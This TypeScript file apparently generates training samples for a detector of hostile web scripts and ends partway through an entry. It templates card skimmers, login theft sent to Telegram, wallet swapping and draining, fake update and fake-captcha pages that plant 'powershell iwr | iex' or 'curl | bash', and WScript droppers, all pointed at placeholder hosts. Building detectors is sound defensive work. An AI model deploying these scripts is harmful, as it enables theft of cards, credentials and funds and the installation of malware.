// Practices of hostile scripts from reports of recent years, each written in several ways. Training data for a detector:
// never run, the hosts do not exist, and filler replaces anything harmful.
import { hide } from './hostile-behaviours.ts'
import { base64, hidden, hostile, percent } from './hostile-templates.ts'
import { skim, leave, skimmer } from './skimmer-templates.ts'
import type { Family, Variation } from './variation.ts'

const HEX = [...'0123456789abcdef']
const wallet = (v: Variation): string => {
  const hex = (length: number): string => Array.from({ length }, () => v.pick(HEX)).join('')
  return v.pick([
    `0x${hex(40)}`,
    `0x${hex(40)}`,
    `bc1q${v.key(36).toLowerCase()}`,
    `1${v.key(33)}`,
    `T${v.key(33)}`,
  ])
}
const WALLET_PATTERN = [
  '/^0x[a-fA-F0-9]{40}$/',
  '/\\b0x[a-fA-F0-9]{40}\\b/g',
  '/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/',
  '/[13][a-km-zA-HJ-NP-Z1-9]{25,34}/',
  '/^T[1-9A-HJ-NP-Za-km-z]{33}$/',
]
const words = (v: Variation): string =>
  v.pick(['checkout', 'onepage', 'payment', 'order-pay', 'onestep', 'billing'])
const card = (v: Variation): string =>
  v.pick([
    'cc_number',
    'card-number',
    'cardnumber',
    'payment[cc_number]',
    'wc-stripe-card-number',
    'authnetcim-cc-number',
  ])

/** A name of a host that follows from the day. */
const dailyName = (v: Variation): string =>
  v.pick([
    `var t=new Date(),s=t.getUTCFullYear()*${v.number(100, 999)}+(t.getUTCMonth()+1)*${v.number(20, 90)}+t.getUTCDate(),h='';for(var k=0;k<${v.number(7, 15)};k++){s=(s*${v.number(1000, 99_999)}+${v.number(3, 999)})%${v.number(100_000, 999_999)};h+='abcdefghijklmnopqrstuvwxyz'.charAt(s%26)}`,
    `var w=Math.floor(Date.now()/${v.pick(['6048e5', '864e5', '1000/3600/24/7'])}),h='';while(w>0){h+=String.fromCharCode(97+w%26);w=Math.floor(w/${v.number(2, 9)})}`,
    `var h=btoa(new Date().toISOString().slice(0,${v.pick(['7', '10'])})+'${v.key(4)}').replace(/[^a-z]/gi,'').toLowerCase().slice(0,${v.number(8, 14)});`,
    `var q=new Date();q.setDate(q.getDate()-q.getDay());var h=(q.getTime()/1e5|0).toString(36).split('').reverse().join('')+'${v.key(3).toLowerCase()}';`,
    `var n=new Date(),h=['${v.key(3).toLowerCase()}','${v.key(4).toLowerCase()}','${v.key(3).toLowerCase()}'][n.getDate()%3]+n.getMonth()+n.getFullYear();`,
  ])
const zone = (v: Variation): string =>
  v.pick(['.example', '.test', '.invalid', '.example.net', '.example.org'])

export const HOSTILE_PRACTICES: readonly Family[] = [
  skimmer('form of the page sent elsewhere', (v) => {
    const form = v.pick([
      `document.getElementById('${v.pick(['checkout-form', 'payment-form', 'onestep-form'])}')`,
      `document.querySelector('form.checkout')`,
      `document.forms['${v.pick(['payment', 'checkout'])}']`,
    ])
    return v.pick([
      `var ${v.id(0)}=${form};${v.id(0)}.onsubmit=function(){this.action=${hide(v, v.address())};return true};`,
      `${form}.addEventListener('submit',function(e){var a=this.action;this.action=${hide(v, v.address())};this.target='${v.key(4)}';var s=this;setTimeout(function(){s.action=a;s.target='';s.submit()},${v.number(3, 9)}00)});`,
      `jQuery('form').${v.pick(["on('submit',", 'submit('])}function(){jQuery(this).attr('action',${hide(v, v.address())})});`,
      `[].forEach.call(document.querySelectorAll('button[type=submit]'),function(b){b.setAttribute('formaction',${hide(v, v.address())})});`,
      `var ${v.id(1)}=${form},${v.id(2)}=${v.id(1)}.getAttribute('action');document.querySelector('${v.pick(['#place_order', '.btn-checkout', '[type=submit]'])}').addEventListener('mousedown',function(){${v.id(1)}.setAttribute('action',${hide(v, v.address())}+'?r='+encodeURIComponent(${v.id(2)}))});`,
    ])
  }),
  skimmer('copy of a form sent into a frame', (v) => {
    const [f, i] = [v.id(3), v.id(4)]
    const fill = v.pick([
      `[].forEach.call(document.querySelectorAll('input,select'),function(e){var x=document.createElement('input');x.type='hidden';x.name=e.name||e.id;x.value=e.value;${f}.appendChild(x)});`,
      `var x=document.createElement('input');x.type='hidden';x.name='${v.pick(['d', 'data', 'q'])}';x.value=btoa(jQuery('form').serialize());${f}.appendChild(x);`,
      `new FormData(document.querySelector('form')).forEach(function(val,key){var x=document.createElement('textarea');x.name=key;x.value=val;${f}.append(x)});`,
    ])
    return `document.addEventListener('${v.pick(['submit', 'click', 'mousedown'])}',function(){var ${i}=document.createElement('iframe');${i}.name='${v.key(5)}';${i}.style.display='none';document.body.appendChild(${i});var ${f}=document.createElement('form');${f}.method='post';${f}.target=${i}.name;${f}.action=${hide(v, v.address())};${fill}document.body.appendChild(${f});${v.pick([`${f}.submit()`, `HTMLFormElement.prototype.submit.call(${f})`])};${v.pick(['', `setTimeout(function(){${f}.remove()},500)`])}},true);`
  }),
  skimmer(
    'page that cannot be found, with code in its comment',
    (v) =>
      `fetch('/${v.key(8).toLowerCase()}').then(function(r){return r.text()}).then(function(t){var m=t.match(/<!--\\s*${v.key(6)}(.*?)-->/);if(m)${v.pick(['eval(atob(m[1]))', 'Function(atob(m[1].trim()))()', "{var s=document.createElement('script');s.textContent=decodeURIComponent(escape(atob(m[1])));document.head.append(s)}"])}});`,
  ),
  skimmer('handler of a picture that decodes itself', (v) => {
    const code = `if(location.href.indexOf('${words(v)}')>0){${skim(v, v.id(1))}${leave(v, v.id(1))}}`
    const quoted = base64(code)
    return v.pick([
      `<img src="x" ${v.pick(['alt', 'title', 'id'])}="${quoted}" onerror="${v.pick(['eval(atob(this.alt||this.title||this.id))', 'Function(atob(this.alt||this.title||this.id))()'])}" style="display:none">`,
      `<img data-${v.pick(['src', 'x', 'set'])}="${quoted}" src="data:image/gif;base64,R0lGOD" onload="${v.pick(["(new Function(atob(this.getAttribute('data-src')||this.dataset.x||this.dataset.set)))()", 'eval(atob(Object.values(this.dataset)[0]||this.dataset.src||this.dataset.x||this.dataset.set))'])}">`,
      `<svg onload="eval(String.fromCharCode(${[...code].map((c) => c.charCodeAt(0)).join(',')}))"></svg>`,
      `var ${v.id(0)}=new Image();${v.id(0)}.onerror=function(){${v.pick([`Function(atob('${quoted}'))()`, `eval(decodeURIComponent('${percent(code)}'))`])}};${v.id(0)}.src='${v.pick(['x', '/0', 'data:,'])}';`,
      `document.documentElement.setAttribute('${v.pick(['onclick', 'onmouseover', 'onpointermove'])}',${v.pick([`atob('${quoted}')`, `unescape('${percent(code)}')`])});`,
      `<div id="${v.key(5)}" hidden>${quoted}</div><script>Function(atob(document.querySelector('[hidden]').textContent||document.getElementById('${v.key(5)}').innerHTML))()</script>`,
    ])
  }),
  skimmer('analytics call that carries a card', (v) =>
    v.pick([
      `(function(){var g=window.ga||function(){};document.addEventListener('change',function(){var n=document.querySelector('[name="${card(v)}"]');if(n&&n.value.length>13){${v.pick([`new Image().src='https://www.google-analytics.com/collect?v=1&tid=UA-${v.number(1e4, 9e4)}-1&cid=1&t=event&ec='+btoa(n.value+'|'+(document.querySelector('[name*=cvv],[name*=cid]')||{}).value)`, `fetch(${hide(v, v.address())}+'?v=1&t=pageview&dt='+encodeURIComponent(n.value),{mode:'no-cors'})`])}}})})();`,
      `window.dataLayer=window.dataLayer||[];!function(w){var ${v.id(0)}={};w.addEventListener('blur',function(e){var t=e.target;if(t&&t.tagName==='INPUT'&&t.value)${v.id(0)}[t.name||t.id]=t.value},true);w.addEventListener('${v.pick(['beforeunload', 'pagehide'])}',function(){if(Object.keys(${v.id(0)}).length>${v.number(2, 6)})navigator.sendBeacon(${hide(v, v.address())},JSON.stringify(${v.id(0)}))})}(window);`,
    ]),
  ),
  skimmer(
    'fields watched by their change in the tree',
    (v) =>
      `(function(){var seen={};function look(n){(n.querySelectorAll?n.querySelectorAll('input,select'):[]).forEach(function(i){if(seen[i.name])return;seen[i.name]=1;i.addEventListener('${v.pick(['change', 'focusout', 'keyup'])}',function(){var o={};document.querySelectorAll('input,select').forEach(function(e){if(e.value)o[e.name||e.id]=e.value});if(${v.pick([`/^\\d{13,19}$/.test((o['${card(v)}']||'').replace(/\\s/g,''))`, 'Object.keys(o).join().match(/cv[vc]/i)'])}){${leave(v, 'JSON.stringify(o)')}}})})}new MutationObserver(function(m){m.forEach(function(x){x.addedNodes.forEach(look)})}).observe(document.documentElement,{childList:true,subtree:true});look(document)})();`,
  ),
  skimmer(
    'fields kept in steps and sent at the end',
    (v) =>
      `var ${v.id(0)}='_${v.key(5)}';function ${v.id(1)}(){try{return JSON.parse(atob(localStorage.getItem(${v.id(0)})||''))}catch(e){return{}}}document.addEventListener('input',function(e){var o=${v.id(1)}();o[e.target.name||e.target.id]=e.target.value;localStorage.setItem(${v.id(0)},btoa(JSON.stringify(o)))},true);if(/${v.pick(['success', 'thank', 'order-received'])}|${words(v)}/.test(location.pathname)){var ${v.id(2)}=localStorage.getItem(${v.id(0)});if(${v.id(2)}){${leave(v, v.id(2))}localStorage.removeItem(${v.id(0)})}}`,
  ),
  skimmer(
    'loader whose host follows from the day',
    (v) =>
      `(function(){if(!/${words(v)}/.test(location.href))return;${dailyName(v)}var s=document.createElement('script');s.src='${v.pick(['https://', '//'])}'+h+'${zone(v)}/${v.pick(['j.js', 'lib.js', 'ga.js', ''])}';(document.head||document.body).appendChild(s)})();`,
  ),
  skimmer(
    'false field of a payment service',
    (v) =>
      `var ${v.id(0)}=setInterval(function(){var f=document.querySelector('iframe[name^=__privateStripe],iframe[src*="${v.pick(['stripe', 'braintree', 'adyen'])}"]');if(!f)return;clearInterval(${v.id(0)});f.style.display='none';var d=document.createElement('div');d.innerHTML='<input class="InputElement" id="${v.key(4)}n" placeholder="1234 1234 1234 1234"><input id="${v.key(4)}e" placeholder="MM / YY"><input id="${v.key(4)}c" placeholder="CVC">';f.parentNode.insertBefore(d,f);d.querySelectorAll('input').forEach(function(i){i.onchange=function(){var s=[].map.call(d.querySelectorAll('input'),function(x){return x.value}).join('|');if(s.length>${v.number(18, 26)}){${leave(v, 's')}${v.pick(["f.style.display='';d.remove();", ''])}}}})},${v.number(2, 9)}00);`,
  ),
  hostile('wallet of the clipboard exchanged', (v) =>
    v.pick([
      `document.addEventListener('${v.pick(['copy', 'cut'])}',function(e){var s=String(window.getSelection());if(${v.pick(WALLET_PATTERN)}.test(s)){e.clipboardData.setData('text/plain',${hide(v, wallet(v))});e.preventDefault()}});`,
      `setInterval(async function(){try{var t=await navigator.clipboard.readText();if(${v.pick(WALLET_PATTERN)}.test(t)&&t!=='${wallet(v)}')await navigator.clipboard.writeText('${wallet(v)}')}catch(e){}},${v.number(3, 20)}00);`,
      `document.oncopy=function(){var a=document.createElement('textarea');a.value=String(getSelection()).replace(${v.pick(WALLET_PATTERN)},'${wallet(v)}');document.body.appendChild(a);a.select();document.execCommand('copy');a.remove();return false};`,
      `document.addEventListener('paste',function(e){var t=(e.clipboardData||window.clipboardData).getData('text');if(${v.pick(WALLET_PATTERN)}.test(t)){e.preventDefault();e.target.value=${hide(v, wallet(v))};e.target.dispatchEvent(new Event('input',{bubbles:true}))}},true);`,
    ]),
  ),
  hostile('wallets of a page exchanged', (v) =>
    v.pick([
      `(function(){var a=['${wallet(v)}','${wallet(v)}'];function walk(n){if(n.nodeType===3){n.nodeValue=n.nodeValue.replace(${v.pick(WALLET_PATTERN)},a[0])}else for(var i=0;i<n.childNodes.length;i++)walk(n.childNodes[i])}new MutationObserver(function(){walk(document.body)}).observe(document.body,{childList:true,subtree:true});walk(document.body)})();`,
      `setInterval(function(){document.querySelectorAll('input,textarea,[data-address]').forEach(function(e){if(${v.pick(WALLET_PATTERN)}.test(e.value||'')&&e.value!=='${wallet(v)}'){e.value='${wallet(v)}'}})},${v.number(2, 9)}00);`,
      `document.addEventListener('input',function(e){if(${v.pick(WALLET_PATTERN)}.test(e.target.value))e.target.value=${hide(v, wallet(v))}},true);`,
      `document.querySelectorAll('a[href^="${v.pick(['bitcoin:', 'ethereum:'])}"],.${v.pick(['address', 'wallet', 'deposit'])}').forEach(function(e){e.textContent='${wallet(v)}';if(e.href)e.href='bitcoin:${wallet(v)}'});`,
    ]),
  ),
  hostile('requests of a wallet changed on their way', (v) => {
    const to = wallet(v)
    return v.pick([
      `(function(){var e=window.ethereum;if(!e)return;var o=e.request;e.request=function(a){if(a&&a.method==='eth_sendTransaction'){a.params[0].to=${hide(v, to)}}return o.apply(e,arguments)}})();`,
      `if(window.ethereum){window.ethereum=new Proxy(window.ethereum,{get:function(t,k){if(k==='request')return function(a){if(/eth_(sendTransaction|signTypedData)/.test(a.method)&&a.params[0])a.params[0].to='${to}';return t.request(a)};return t[k]}})}`,
      `var ${v.id(0)}=window.fetch;window.fetch=async function(){var r=await ${v.id(0)}.apply(this,arguments);var t=await r.clone().text();return new Response(t.replace(${v.pick(WALLET_PATTERN)},function(m){return ['${wallet(v)}','${wallet(v)}','${wallet(v)}'][m.length%3]}),{status:r.status,headers:r.headers})};${v.chance(0.6) ? `var ${v.id(1)}=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){return ${v.id(1)}.call(this,typeof b==='string'?b.replace(${v.pick(WALLET_PATTERN)},'${wallet(v)}'):b)};` : ''}`,
      `(function(){var p=window.solana&&window.solana.signAndSendTransaction;if(!p)return;window.solana.signAndSendTransaction=function(t){t.instructions[0].keys[1].pubkey=new solanaWeb3.PublicKey('${v.key(44)}');return p.call(window.solana,t)}})();`,
      `Object.defineProperty(window,'ethereum',{get:function(){return ${v.id(2)}},set:function(x){${v.id(2)}=x;var s=x.sendAsync;x.sendAsync=function(q,c){if(q.method==='eth_sendTransaction')q.params[0].to=${hide(v, to)};return s.call(x,q,c)}}});`,
    ])
  }),
  hostile('wallet emptied at a click', (v) => {
    const to = wallet(v)
    return v.pick([
      `document.querySelector('${v.pick(['#claim', '.mint', '#connect'])}').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const b=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:${hide(v, to)},value:'0x'+(BigInt(b)*${v.number(85, 99)}n/100n).toString(16)}]});fetch(${hide(v, v.address())},{method:'POST',body:JSON.stringify({a,b})})};`,
      `async function ${v.id(0)}(){const p=new ethers.providers.Web3Provider(window.ethereum),s=p.getSigner(),a=await s.getAddress();const l=await(await fetch(${hide(v, v.address())}+'?a='+a)).json();for(const t of l.sort((x,y)=>y.usd-x.usd)){const c=new ethers.Contract(t.address,['function approve(address,uint256)','function setApprovalForAll(address,bool)','function increaseAllowance(address,uint256)'],s);try{t.nft?await c.setApprovalForAll('${to}',true):await c.${v.pick(['approve', 'increaseAllowance'])}('${to}',ethers.constants.MaxUint256)}catch(e){continue}}}document.querySelectorAll('button').forEach(b=>b.addEventListener('click',${v.id(0)}));`,
      `const ${v.id(0)}={receiver:'${to}',bot:'${v.number(1e8, 9e9)}:${v.key(35)}',chat:'-100${v.number(1e8, 9e8)}'};async function ${v.id(1)}(m){await fetch('https://api.telegram.org/bot'+${v.id(0)}.bot+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:${v.id(0)}.chat,text:m})})}async function ${v.id(2)}(){const a=(await ethereum.request({method:'eth_requestAccounts'}))[0];await ${v.id(1)}('connected '+a+' '+location.host);const m=JSON.stringify({domain:{name:'${v.pick(['USD Coin', 'Permit2'])}'},primaryType:'Permit',message:{owner:a,spender:${v.id(0)}.receiver,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935'}});const g=await ethereum.request({method:'eth_signTypedData_v4',params:[a,m]});await ${v.id(1)}('signed '+g)}document.body.addEventListener('click',${v.id(2)},{once:true});`,
    ])
  }),
  hostile('keys of wallets looked for', (v) =>
    v.pick([
      `(function(){var o={};for(var i=0;i<localStorage.length;i++){var k=localStorage.key(i);if(/wallet|seed|mnemonic|priv|vault|keystore/i.test(k))o[k]=localStorage.getItem(k)}if(Object.keys(o).length){${leave(v, 'JSON.stringify(o)')}}})();`,
      `var ${v.id(0)}=Storage.prototype.setItem;Storage.prototype.setItem=function(k,x){if(/(mnemonic|seed|privateKey|vault)/i.test(k+x)){${leave(v, "k+'='+x")}}return ${v.id(0)}.apply(this,arguments)};`,
      `document.addEventListener('input',function(e){var t=e.target.value.trim().split(/\\s+/);if(t.length===12||t.length===24){var p=t.join(' ');${leave(v, 'p')}}},true);`,
    ]),
  ),
  hostile('false update in the place of the page', (v) => {
    const name = v.pick(['Chrome', 'Firefox', 'Edge', 'your browser'])
    const file = v.pick([
      'Update.js',
      'Chrome_update.zip',
      'Install.msix',
      'Updater.hta',
      'AutoUpdater.exe',
      'browser_update.apk',
    ])
    const markup = `<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:${v.number(1000, 999_999)};text-align:center"><h1>${v.pick([`Update ${name}`, `You are using an older version of ${name}`, `${name}: a critical update is required`, `An update of ${name} is available`])}</h1><p>${v.pick(['Update now to keep it running smoothly and securely', 'to see this page you need the latest version', 'An error occurred during the automatic update'])}</p><a id="upd" href="#">${v.pick(['Update', 'Update Chrome', 'Download the update'])}</a></div>`
    return v.pick([
      `${v.pick(['if(!/bot|crawl/i.test(navigator.userAgent)&&/Windows/.test(navigator.userAgent))', "if(document.cookie.indexOf('upd=1')<0)", ''])}{document.body.innerHTML='${markup}';document.getElementById('upd').onclick=function(){location.href=${hide(v, `${v.address()}/${file}`)}}}`,
      `window.addEventListener('load',function(){var d=document.createElement('div');d.innerHTML='${markup}';document.body.appendChild(d);d.querySelector('a').addEventListener('click',function(){var a=document.createElement('a');a.href=${hide(v, `${v.address()}/${file}`)};a.download='${file}';a.click()})});`,
      `(function(){var f=document.createElement('iframe');f.srcdoc='${markup.replaceAll("'", '')}';f.style.cssText='position:fixed;inset:0;width:100vw;height:100vh;border:0;z-index:${v.number(9999, 99_999_999)}';document.body.appendChild(f);f.onload=function(){f.contentDocument.getElementById('upd').onclick=function(){var b=new Blob([Uint8Array.from(atob('${v.pick(['TVqQAAMAAAAEAAAA', 'UEsDBBQAAAAIA'])}${v.key(60)}'),function(c){return c.charCodeAt(0)})],{type:'application/octet-stream'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='${file}';a.click()}}})();`,
    ])
  }),
  hostile('loader of a false update, for those who come from elsewhere', (v) =>
    v.pick([
      `;(function(${v.id(0)},${v.id(1)},${v.id(2)}){var r=document.referrer,u=navigator.userAgent;if(!r||r.indexOf(location.host)>-1||!/Windows/.test(u)||localStorage.getItem('${v.key(6)}'))return;var s=${v.id(0)}.createElement('script');s.async=1;s.src=${v.id(2)}+'?'+${v.id(1)};${v.id(0)}.head.appendChild(s)})(document,'${v.key(24)}',${hide(v, v.address())});`,
      `(function(){var ${v.id(3)}=${hide(v, v.address())};if(/Windows NT/.test(navigator.userAgent)&&!/wordpress_logged_in|wp-settings/.test(document.cookie)&&document.referrer.split('/')[2]!==location.hostname){var x=new XMLHttpRequest();x.open('GET',${v.id(3)}+'?u='+btoa(location.href));x.onload=function(){${v.pick(['if(x.responseText.length>9)eval(x.responseText)', "var d=document.createElement('script');d.text=x.responseText;document.head.appendChild(d)"])}};x.send()}})();`,
      `!function(){var m=document.querySelector('meta[name=generator]'),p=performance.getEntriesByType('navigation')[0];if(p&&p.type==='navigate'&&/google|bing|yahoo|duckduckgo/.test(document.referrer)){document.write('<scr'+'ipt src="'+${hide(v, v.address())}+'"></scr'+'ipt>')}}();`,
    ]),
  ),
  hostile('telephones sent on', (v) => {
    const away = v.pick(['window.location.href=', 'location=', 'top.location=', 'document.location='])
    const ua = v.pick([
      '/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i.test(navigator.userAgent)',
      "navigator.userAgent.toLowerCase().indexOf('android')>-1",
      '/(android|bb\\d+|meego).+mobile|avantgo|bada\\/|blackberry/i.test(navigator.userAgent||navigator.vendor)',
      "'ontouchstart' in window&&screen.width<800",
    ])
    return v.pick([
      `if(${ua}&&!localStorage.getItem('${v.key(4)}')){localStorage.setItem('${v.key(4)}',Date.now());${away}${hide(v, v.address())}}`,
      `(function(){function m(){return ${ua}}if(!m())return;var c=document.cookie.match(/${v.key(4)}=/);if(c)return;document.cookie='${v.key(4)}=1;max-age=86400;path=/';setTimeout(function(){${away}${hide(v, v.address())}+'?s='+location.hostname},${v.number(0, 40)}00)})();`,
      `document.addEventListener('${v.pick(['click', 'touchend', 'touchstart'])}',function(){if(${ua}&&(+localStorage.getItem('${v.key(4)}')||0)<Date.now()-${v.number(1, 24)}*36e5){localStorage.setItem('${v.key(4)}',Date.now());window.open(${hide(v, v.address())})}});`,
      `function ${v.id(0)}(){var n=Number(localStorage.getItem('n')||0)+1;localStorage.setItem('n',n);if(${ua}&&n<${v.number(3, 8)}){var l=[${hide(v, v.address())},${hide(v, v.address())},${hide(v, v.address())}];window.open(l[Math.floor(Math.random()*l.length)],'_blank');${away}l[n%3]}}document.querySelectorAll('a').forEach(function(a){a.addEventListener('click',${v.id(0)})});`,
    ])
  }),
  hostile('visitors sent on by a host of the day', (v) =>
    v.pick([
      `(function(){${dailyName(v)}${v.pick(['location.href=', 'window.location='])}'${v.pick(['http://', 'https://'])}'+h+'${zone(v)}/${v.pick(['', 'in.cgi?3', '?t='])}'})();`,
      `${dailyName(v)}document.write('<iframe src="http://'+h+'${zone(v)}/${v.pick(['', 'i.php'])}" width=1 height=1 style="visibility:hidden"></iframe>');`,
      `(function(){${dailyName(v)}var x=new XMLHttpRequest();x.onload=function(){${v.pick(['eval(x.responseText)', 'Function(x.response)()'])}};x.open('GET','https://'+h+'${zone(v)}/${v.key(4)}');x.send()})();`,
      `(function(){${dailyName(v)}var w=new WebSocket('wss://'+h+'${zone(v)}');w.onmessage=function(m){${v.pick(['eval(m.data)', 'Function(m.data)()'])}}})();`,
    ]),
  ),
  hostile('host told by a name service or a ledger', (v) =>
    v.pick([
      `fetch('https://${v.pick(['dns.google/resolve', 'cloudflare-dns.com/dns-query'])}?name=${v.key(6).toLowerCase()}.example.net&type=TXT',{headers:{accept:'application/dns-json'}}).then(r=>r.json()).then(d=>{var u=atob(d.Answer[0].data.replace(/"/g,''));${v.pick(['location.href=u', "var s=document.createElement('script');s.src=u;document.head.append(s)"])}});`,
      `(async()=>{const r=await fetch('https://bsc-dataseed${v.number(1, 4)}.example.org/',{method:'POST',body:JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'${wallet(v)}',data:'0x${v.number(1e7, 9e7)}'},'latest']})});const h=(await r.json()).result.slice(130);let c='';for(let i=0;i<h.length;i+=2)c+=String.fromCharCode(parseInt(h.substr(i,2),16));${v.pick(['eval(c)', 'new Function(atob(c))()', "location='https://'+c"])}})();`,
    ]),
  ),
  hostile('worker of the site that answers for it', (v) =>
    v.pick([
      `self.addEventListener('fetch',function(e){if(e.request.mode==='navigate'&&Math.random()<.${v.number(1, 9)}){e.respondWith(Response.redirect(${hide(v, v.address())},302))}});self.addEventListener('install',function(){self.skipWaiting()});`,
      `importScripts(${hide(v, v.address())});self.addEventListener('push',function(e){var d=e.data?e.data.json():{};e.waitUntil(self.registration.showNotification(d.title||'${v.pick(['Virus found', 'You have won', 'New message'])}',{body:d.body,data:d.url}))});self.addEventListener('notificationclick',function(e){e.notification.close();clients.openWindow(e.notification.data||${hide(v, v.address())})});`,
      `self.addEventListener('fetch',function(e){var u=new URL(e.request.url);if(/${words(v)}/.test(u.pathname)&&e.request.method==='POST'){e.waitUntil(e.request.clone().text().then(function(b){return fetch(${hide(v, v.address())},{method:'POST',mode:'no-cors',body:btoa(b)})}))}});`,
    ]),
  ),
  hostile('check of a robot that is none', (v) => {
    const command = v.pick([
      `powershell -w hidden -c "iwr ${v.address()} | iex"`,
      `mshta ${v.address()}`,
      `cmd /c curl ${v.address()} -o %temp%\\\\a.bat & %temp%\\\\a.bat`,
      `curl -s ${v.address()} | bash`,
    ])
    return `${v.pick(['document.body.innerHTML=', "var d=document.createElement('div');document.body.appendChild(d);d.innerHTML="])}'<div class="box"><p>${v.pick(['Verify you are human', 'I am not a robot', 'Complete these verification steps'])}</p><button id="go">${v.pick(['Verify', 'Fix it', 'Continue'])}</button><ol hidden><li>Press Windows ${v.pick(['Button', 'key'])} + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>';document.getElementById('go').onclick=function(){${v.pick([`navigator.clipboard.writeText(${hide(v, command)})`, `var t=document.createElement('textarea');t.value=${hide(v, command)};document.body.appendChild(t);t.select();document.execCommand('copy')`])};document.querySelector('ol').hidden=false};`
  }),
  hostile('dropper for the host of scripts', (v) => {
    const [s, x, p] = [v.id(5), v.id(6), v.id(7)]
    const split = (text: string): string =>
      text.length < 6 ? `"${text}"` : `"${text.slice(0, 3)}"+"${text.slice(3, 6)}"+"${text.slice(6)}"`
    const open = v.pick(['WScript.CreateObject', 'new ActiveXObject'])
    return v.pick([
      `var ${s}=${open}(${split('WScript.Shell')});var ${x}=${open}(${split('MSXML2.XMLHTTP')});var ${p}=${s}.ExpandEnvironmentStrings("%TEMP%")+"\\\\${v.key(6)}.${v.pick(['exe', 'dll', 'scr'])}";${x}.open("GET","${v.address()}",false);${x}.send();if(${x}.status==200){var a=${open}(${split('ADODB.Stream')});a.open();a.type=1;a.write(${x}.ResponseBody);a.position=0;a.saveToFile(${p},2);a.close();${s}.Run(${p},${v.number(0, 1)},0)}`,
      `var l=["${v.address()}","${v.address()}","${v.address()}"];for(var i=0;i<l.length;i++){try{var ${x}=${open}(${split('MSXML2.ServerXMLHTTP')});${x}["o"+"pen"]("GET",l[i],0);${x}["se"+"nd"]();if(${x}.status==200&&${x}.responseText.length>1000){${open}(${split('WScript.Shell')})["R"+"un"]("${v.pick(['regsvr32 /s', 'rundll32'])} "+${x}.responseText,0);break}}catch(e){}}`,
      `/*@cc_on var ${s}=new ActiveXObject(${split('WScript.Shell')});${s}.Run("${v.pick(['powershell -ep bypass -w hidden -c FILLER', 'cmd /c start FILLER', 'wscript FILLER.vbs'])}",0,false); @*/`,
      `try{var ${p}=${hide(v, 'powershell -nop -w hidden -enc RgBJAEwATABFAFIA')};${open}(${split('Shell.Application')}).ShellExecute("cmd.exe","/c "+${p},"","open",0)}catch(e){WScript.Quit()}`,
      `var ${s}=GetObject("winmgmts:root\\\\cimv2:Win32_Process");${s}.Create(${hide(v, 'mshta https://load.example.net/filler')},null,null,0);`,
    ])
  }),
  hostile('code hidden in a library of the page', (v) => {
    const inner = v.pick([
      `(function(){if(document.cookie.indexOf('${v.key(4)}')<0&&!/bot/i.test(navigator.userAgent)){var s=document.createElement('script');s.src=${hide(v, v.address())};document.head.appendChild(s)}})();`,
      `if(typeof ndsj==="undefined"){var ${v.id(0)}=!0;(function(){var h=new XMLHttpRequest();h.open('GET','//'+location.host+'/wp-content/${v.key(5)}.php?id='+Math.random());h.onreadystatechange=function(){if(h.readyState==4&&h.status==200&&h.responseText.indexOf('ndsx')>-1)eval(h.responseText)};h.send()})()}`,
      hidden(v, `location.replace('${v.address()}')`),
    ])
    const around = `/*! jQuery.${v.id(3)} v${v.number(1, 4)}.${v.number(0, 9)} | (c) ${v.number(2010, 2024)} | MIT */(function($){$.fn.${v.id(3)}=function(o){var s=$.extend({speed:${v.number(100, 900)},cls:'on'},o);return this.each(function(){$(this).on('click',function(e){e.preventDefault();$(this).toggleClass(s.cls).next().slideToggle(s.speed)})})}})(jQuery);`
    return v.pick([
      `${around}\n${inner}`,
      `${inner}\n${around}`,
      around.replace('return this.each', `${inner};return this.each`),
    ])
  }),
  hostile('log-in of somebody copied', (v) =>
    v.pick([
      `document.addEventListener('submit',function(e){var p=e.target.querySelector('input[type=password]');if(p&&p.value){var u=e.target.querySelector('input[type=email],input[type=text]');var d=(u?u.value:'')+':'+p.value+'@'+location.host;${leave(v, 'd')}}},true);`,
      `var ${v.id(0)}=document.querySelector('#loginform,#login-form,form[action*=login]');${v.id(0)}&&${v.id(0)}.addEventListener('submit',function(){var x=new XMLHttpRequest();x.open('POST',${hide(v, v.address())},false);x.send('log='+encodeURIComponent(this.querySelector('[name=log],[name=username],[name=email]').value)+'&pwd='+encodeURIComponent(this.querySelector('[type=password]').value))});`,
      `$('form').submit(function(e){e.preventDefault();$.post('https://api.telegram.org/bot${v.number(1e8, 9e8)}:${v.key(35)}/sendMessage',{chat_id:'${v.number(1e8, 9e8)}',text:'user: '+$('#${v.pick(['email', 'user', 'login'])}').val()+' pass: '+$('#${v.pick(['password', 'pass', 'pwd'])}').val()}).always(function(){location.href='${v.pick(['https://login.example.com/', '/error'])}'})});`,
    ]),
  ),
  hostile('advertisement under another name', (v) =>
    v.pick([
      `(function(){var d=document,o=d.createElement('div');o.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;opacity:0';o.onclick=function(){window.open(${hide(v, v.address())},'_blank');o.remove()};d.body.appendChild(o)})();`,
      `[].forEach.call(document.links,function(a){a.addEventListener('mousedown',function(){if(!sessionStorage.p){sessionStorage.p=1;var h=a.href;a.href=${hide(v, v.address())}+'?u='+encodeURIComponent(h)}})});`,
      `history.pushState(null,'',location.href);window.addEventListener('popstate',function(){location.replace(${hide(v, v.address())})});`,
      `document.querySelectorAll('script[src*="adsbygoogle"],ins.adsbygoogle').forEach(function(e){e.setAttribute('data-ad-client','ca-pub-${v.number(1e8, 9e8)}')});var ${v.id(0)}=document.createElement('iframe');${v.id(0)}.src=${hide(v, v.address())};${v.id(0)}.style.cssText='width:0;height:0;border:0';document.body.appendChild(${v.id(0)});`,
    ]),
  ),
  hostile(
    'what the browser fills in by itself',
    (v) =>
